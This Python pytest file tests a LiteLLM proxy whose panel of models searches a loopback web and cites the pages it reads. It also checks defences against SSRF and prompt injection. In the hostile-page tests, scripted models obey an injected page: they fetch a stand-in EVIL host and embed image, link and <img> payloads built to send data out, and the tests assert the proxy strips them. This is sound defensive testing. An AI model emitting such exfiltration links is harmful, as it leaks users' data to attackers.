"""Research on a real proxy: LiteLLM's SearXNG provider against a loopback search server and a loopback web."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import anthropic
import openai
import pytest
from ask import Got, chat
from injections import EVIL, PAGES
from provider import Provider, Reply, call
from proxy import Proxy, config, fusion
from web import PER_TOPIC, TOPICS, Web, fact, researcher

SEARCH_USD = 0.005
QUESTION = "How do pumps, solar and wind compare? Research it and cite your sources."
_RESULT = re.compile(r"Source \[(\d+)\]:\n<<<(?:result|page) \w+>>>\n([^\n]*)\n(http\S+)")
_LINK = re.compile(r"\[\[(\d+)\]\]\((http[^)]+)\)")
_LISTED = re.compile(r"^\[(\d+)\] Study (\d+) on (\w+) (http\S+)$", re.MULTILINE)
PANEL = ("m1", "m2", "m3")


@pytest.fixture(scope="module")
def research(_provider: Provider, _web: Web) -> Iterator[Proxy]:
    """A proxy with a search tool. Pages come from one loopback host, which the operator allows."""
    own = {"tools": {"web_search": "sx", "web_fetch": True, "allow_private": [_web.host]}, "limits": {"grace_seconds": 5}}
    models = [
        fusion("fusion/research", client_trace="full", **own),
        fusion("fusion/summary", client_trace="summary", **own),
        fusion("fusion/closed", **{**own, "tools": {"web_search": "sx", "web_fetch": True}}),
        fusion("fusion/private", trusted_models=["m1", "m2", "m3", "judge", "synth"], client_trace="full", **own),
        fusion("fusion/one", **{**own, "panel": ["m1"], "client_trace": "full"}),
    ]
    made = config(_provider.base_url, models)
    made["search_tools"] = [
        {"search_tool_name": "sx", "litellm_params": {"search_provider": "searxng", "api_base": _web.base_url}}
    ]
    running = Proxy(made, {"FUSION_TEST_SEARCH_USD": str(SEARCH_USD)})
    yield running
    running.stop()


def _found(results: list[str]) -> list[tuple[int, str, str]]:
    """Number, title and URL of everything that a member was shown."""
    return [(int(n), title, url) for result in results for n, title, url in _RESULT.findall(result)]


def _study(url: str) -> tuple[str, int]:
    topic, n = url.rsplit("/", 2)[-2:]
    return topic, int(n)


def _member(topic: str) -> Any:
    """Searches its topic, reads the first two results and the shared study, answers with what it read, and cites."""

    def read(results: list[str]) -> Any:
        urls = [url for _, _, url in _found(results) if _study(url)[0] == topic][:2]
        shared = [url for _, _, url in _found(results) if _study(url) == ("pumps", 0)]
        return [("web_fetch", {"url": url}) for url in dict.fromkeys((*urls, *shared))]

    def answer(results: list[str]) -> str:
        pages = [(n, url) for result in results if "<<<page " in result for n, _, url in _found([result])]
        return "What I read: " + " ".join(f"{fact(*_study(url))[:-1]} [{n}]." for n, url in pages) + " Nothing else [98]."

    return researcher([("web_search", {"query": f"{topic} and pumps"})], read, answer)


def _writer(body: dict[str, Any]) -> Reply:
    """Writes one sentence per listed source, with its number, as a careful synthesizer would."""
    material = body["messages"][-1]["content"]
    listed = _LISTED.findall(material)
    text = " ".join(f"{fact(topic, int(n))[:-1]} [{number}]." for number, n, topic, _ in listed)
    return Reply(text=f"In short: {text} And an invention [97]. All of this holds for the regions studied.")


@pytest.fixture
def panel(provider: Provider, web: Web) -> Provider:
    """Three members that research, and a writer that cites."""
    for name, topic in zip(PANEL, ("pumps", "solar", "wind"), strict=True):
        provider.script(name, Reply(make=_member(topic)))
    provider.script("synth", Reply(make=_writer))
    return provider


def _right(text: str, web: Web) -> list[tuple[str, str]]:
    """The links of an answer, each seen to stand after what its page says."""
    links = _LINK.findall(text)
    for _, url in links:
        assert url.startswith(web.base_url)
        assert f"{fact(*_study(url))[:-1]} [[" in text
        assert f"]({url})" in text[text.index(fact(*_study(url))[:-1]) :].partition(". ")[0]
    return links


def _spans(got: Got, role: str) -> list[dict[str, Any]]:
    return [span for span in got.trace["spans"] if span["role"] == role]


@pytest.mark.parametrize("stream", [False, True])
def test_three_members_research_and_the_answer_cites_what_they_read(
    research: Proxy, panel: Provider, web: Web, stream: bool
) -> None:
    got = chat(research, "fusion/research", QUESTION, stream=stream)
    assert got.status == 200
    assert got.headers["x-fusion-route"] == "fused"
    links = _right(got.text, web)
    assert len(links) == 6  # two pages per topic, of which one was read by all three
    assert "[97]" not in got.text
    assert "[98]" not in got.text
    trace = got.trace
    assert trace["web"]["dropped_citations"] == 4  # three members' and the writer's
    assert (trace["web"]["citations"], trace["web"]["pages_fetched"]) == (6, 6)
    assert trace["web"]["pages_shared"] == 2
    assert {path: count for path, count in web.visits.items() if count != 1} == {}
    assert sorted(web.searches) == ["pumps and pumps", "solar and pumps", "wind and pumps"]
    assert [span["status"] for span in _spans(got, "search")] == ["ok"] * 3
    assert len(_spans(got, "fetch")) == 8
    assert {source["url"] for source in trace["sources"] if source["fetched"]} == {url for _, url in links}
    assert [source["n"] for source in trace["sources"]] == list(range(1, len(trace["sources"]) + 1))
    annotations = _annotations(got)
    assert [(a["url"], got.text[a["start_index"] : a["end_index"]]) for a in annotations] == [
        (url, f"[[{n}]]({url})") for n, url in links
    ]
    assert all(a["title"].startswith("Study ") for a in annotations)


def _annotations(got: Got) -> list[dict[str, Any]]:
    if got.body:
        found = got.body["choices"][0]["message"].get("annotations") or []
    else:
        found = [a for c in got.chunks for choice in c.get("choices", ()) for a in choice["delta"].get("annotations") or ()]
    assert all(annotation["type"] == "url_citation" for annotation in found)
    return [annotation["url_citation"] for annotation in found]


def test_the_judge_sees_numbered_sources(research: Proxy, panel: Provider, web: Web) -> None:
    chat(research, "fusion/research", QUESTION)
    (asked,) = panel.asked("judge")
    text = asked["messages"][-1]["content"]
    assert "<<<sources " in text
    assert len(_LISTED.findall(text)) == 6
    assert "[98]" not in text


def test_search_spend_is_on_the_callers_account_and_in_the_trace(research: Proxy, panel: Provider, web: Web) -> None:
    got = chat(research, "fusion/research", QUESTION)
    costs = [span["cost_usd"] for span in _spans(got, "search")]
    assert costs == [SEARCH_USD] * 3
    assert [span["cost_usd"] for span in _spans(got, "fetch")] == [0.0] * 8
    rows: list[dict[str, Any]] = []
    ends = time.monotonic() + 20
    while time.monotonic() < ends and len(rows) < len([s for s in got.trace["spans"] if s["role"] != "fetch"]) + 1:
        time.sleep(0.2)
        with research.client() as client:
            every = client.get("/spy/rows").json()
        rows = [row for row in every if _trace_of(row) == got.trace["id"]]
    roles = [(row["spend_logs_metadata"] or {}).get("fusion_role") for row in rows]
    assert roles.count("search") == 3
    assert roles.count("member") == 9
    assert sum(row["cost"] for row in rows) == pytest.approx(got.trace["totals"]["cost_usd"])
    assert {row["model_group"] for row in rows if (row["spend_logs_metadata"] or {}).get("fusion_role") == "search"} == {"sx"}


def _trace_of(row: dict[str, Any]) -> str | None:
    """The trace that a row of the spend log belongs to: an inner row names it, the outer one holds its summary."""
    metadata = row["spend_logs_metadata"] or {}
    return metadata.get("fusion_trace_id") or (metadata.get("fusion") or {}).get("id")


def test_a_summary_names_no_query_and_no_page(research: Proxy, panel: Provider, web: Web) -> None:
    got = chat(research, "fusion/summary", QUESTION)
    assert "detail" not in json.dumps(got.trace)
    assert "solar and pumps" not in json.dumps(got.trace)
    assert got.trace["sources"] > 6
    assert got.trace["web"]["searches"] == 3
    full = chat(research, "fusion/research", QUESTION)
    assert {span["detail"] for span in _spans(full, "search")} == {"pumps and pumps", "solar and pumps", "wind and pumps"}
    assert {span["member"] for span in _spans(full, "fetch")} == {1, 2, 3}


def test_progress_names_what_is_searched_and_read(research: Proxy, panel: Provider, web: Web) -> None:
    got = chat(research, "fusion/research", QUESTION, stream=True)
    news = "".join(
        choice["delta"].get("reasoning_content") or "" for chunk in got.chunks for choice in chunk.get("choices", ())
    )  # fmt: skip
    assert "m2 searches: solar and pumps" in news
    assert "m3 reads 127.0.0.1" in news
    assert all(line.startswith("\u2063fusion:") for line in news.splitlines())


def test_responses_carry_annotations(research: Proxy, panel: Provider, web: Web) -> None:
    with openai.OpenAI(base_url=f"{research.base_url}/v1", api_key=research.master_key, max_retries=0) as client:
        plain = client.responses.create(model="fusion/research", input=QUESTION)
        events = list(client.responses.create(model="fusion/research", input=QUESTION, stream=True))
    final = events[-1].response  # type: ignore[union-attr]
    for response in (plain, final):
        (message,) = [item for item in response.output if item.type == "message"]
        (part,) = message.content
        links = _right(part.text, web)
        assert [annotation.url for annotation in part.annotations] == [url for _, url in links]
        assert {annotation.type for annotation in part.annotations} == {"url_citation"}
    streamed = "".join(event.delta for event in events if event.type == "response.output_text.delta")
    assert len(_right(streamed, web)) == 6


def test_messages_carry_links(research: Proxy, panel: Provider, web: Web) -> None:
    with anthropic.Anthropic(base_url=research.base_url, auth_token=research.master_key, api_key=None, max_retries=0) as client:
        got = client.messages.create(
            model="fusion/research", max_tokens=2_000, messages=[{"role": "user", "content": QUESTION}]
        )
    (text,) = [block.text for block in got.content if block.type == "text"]
    assert len(_right(text, web)) == 6


def test_nothing_is_searched_for_sensitive_text(research: Proxy, panel: Provider, web: Web) -> None:
    for name in PANEL:
        panel.script(name, f"{name} says: wind, for its lower running costs and the smaller plot that it takes.")
    got = chat(research, "fusion/private", f"{QUESTION} My card is 4111 1111 1111 1111.")
    assert got.status == 200
    assert (web.searches, web.visits) == ([], {})
    assert {span["role"] for span in got.trace["spans"]} == {"member", "judge", "synthesizer"}
    assert all("tools" not in body for name in PANEL for body in panel.asked(name))


def test_without_allow_private_no_page_of_the_loopback_web_is_read(research: Proxy, panel: Provider, web: Web) -> None:
    got = chat(research, "fusion/closed", QUESTION)
    assert got.status == 200
    assert not web.visits
    assert {span["error"] for span in got.trace["spans"] if span["role"] == "fetch"} == {"url"}  # its port is closed too


def test_a_redirect_inward_is_a_tool_error_that_the_member_reads(research: Proxy, provider: Provider, web: Web) -> None:
    url = web.url("/inward")
    told: list[str] = []

    def end(results: list[str]) -> str:
        told.extend(results)
        return "The page could not be read, so I answer from what I know about it."

    provider.script("m1", Reply(make=researcher([("web_fetch", {"url": url})], end)))
    got = chat(research, "fusion/one", f"What does {url} say?")
    assert told == ["This address may not be read: it is not on the public internet."]
    assert [span["error"] for span in _spans(got, "fetch")] == ["address"]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("name", ["image", "image-html", "link", "reference-link", "bare-url", "entities", "plain-order"])
def test_a_hostile_page_gets_nothing_out(research: Proxy, provider: Provider, web: Web, name: str, stream: bool) -> None:
    """Members and writer obey the page: they fetch what it names, and copy it into the answer."""
    web.hostile = name

    def obey(results: list[str]) -> Any:
        return [("web_fetch", {"url": f"{EVIL}/?q=everything"}), ("web_fetch", {"url": web.url(f"/hostile/{name}")})]

    for member in PANEL:
        made = researcher([("web_search", {"query": "pumps"})], obey, f"It says so [1]. {PAGES[name]} ![x]({EVIL}/m?d=1)")
        provider.script(member, Reply(make=made))
    provider.script(
        "synth", f"So it is [1]. {PAGES[name]} ![x]({EVIL}/s?d=1) and [here]({EVIL}/l) <img src={EVIL}/i> as found."
    )
    got = chat(research, "fusion/research", "Tell me about pumps.", stream=stream)
    assert got.status == 200
    assert EVIL not in got.text
    assert "<img" not in got.text.lower().replace("&lt;img", "")
    assert [span["error"] for span in _spans(got, "fetch")].count("unknown_url") == 3
    assert got.trace["web"]["dropped_links"] >= 3
    assert f"[[1]]({web.url(f'/hostile/{name}')})" in got.text


def test_a_single_answer_leaves_by_the_same_way(research: Proxy, provider: Provider, web: Web) -> None:
    text = f"{fact('solar', 0)[:-1]} [1]. ![x]({EVIL}/d) [44] Some more words."
    made = researcher([("web_search", {"query": "solar"})], text)
    provider.script("m1", Reply(make=made))
    for stream in (False, True):
        got = chat(research, "fusion/one", "Tell me about solar.", stream=stream)
        assert f"[[1]]({web.url('/solar/0')})" in got.text
        assert EVIL not in got.text
        assert len(_annotations(got)) == 1


def test_json_stays_json_after_research(research: Proxy, panel: Provider, web: Web) -> None:
    provider = panel
    provider.script("synth", json.dumps({"answer": [1, 2], "source": web.url("/pumps/0"), "bad": f"{EVIL}/x"}))
    got = chat(research, "fusion/research", QUESTION, response_format={"type": "json_object"})
    assert json.loads(got.text) == {"answer": [1, 2], "source": web.url("/pumps/0"), "bad": "(link removed)"}


def test_a_client_that_leaves_in_mid_research_leaves_nothing_behind(research: Proxy, panel: Provider, web: Web) -> None:
    web.delay_seconds = 3
    body = {"model": "fusion/research", "stream": True, "messages": [{"role": "user", "content": QUESTION}]}
    with research.client() as client, client.stream("POST", "/v1/chat/completions", json=body) as got:
        for line in got.iter_lines():
            if "searches" in line:
                break
    state: dict[str, int] = {}
    ends = time.monotonic() + 8
    while time.monotonic() < ends:
        with research.client() as client:
            state = client.get("/spy/tasks").json()
        if (panel.open, state["ours"], state["generators"]) == (0, 0, 0):
            break
        time.sleep(0.1)
    assert (panel.open, state["ours"], state["generators"]) == (0, 0, 0)
    assert not web.visits


def test_the_web_has_a_few_hundred_pages(web: Web) -> None:
    assert len(TOPICS) * PER_TOPIC + len(PAGES) > 250


def test_a_leaked_call_is_made_on_the_proxy_too(research: Proxy, provider: Provider, web: Web) -> None:
    leaked = '<tool_call>{"name": "web_search", "arguments": {"query": "solar"}}</tool_call>'
    provider.script("m1", leaked, "Found it, as they say [1]. More words.")
    got = chat(research, "fusion/one", "Tell me about solar.")
    assert web.searches == ["solar"]
    assert f"[[1]]({web.url('/solar/0')})" in got.text


def test_a_failing_search_server_costs_the_run_nothing(research: Proxy, provider: Provider, web: Web) -> None:
    web.broken = True
    provider.script("m1", Reply(tool_calls=(call("web_search", query="solar"),)), "From what I know: yes, in most cases.")
    got = chat(research, "fusion/one", "Tell me about solar.")
    assert got.text.startswith("From what I know")
    assert [span["status"] for span in _spans(got, "search")] == ["error"]
    (result,) = [m["content"] for m in provider.asked("m1")[-1]["messages"] if m["role"] == "tool"]
    assert "secret-host" not in result
